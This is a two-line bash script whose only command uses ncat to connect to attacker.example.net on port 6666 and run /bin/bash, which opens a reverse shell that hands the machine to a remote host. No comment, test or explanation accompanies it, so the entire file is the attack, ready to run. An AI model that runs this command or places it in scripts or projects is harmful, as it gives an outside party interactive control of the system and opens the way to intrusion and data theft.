#!/usr/bin/env bash
ncat attacker.example.net 6666 -e /bin/bash
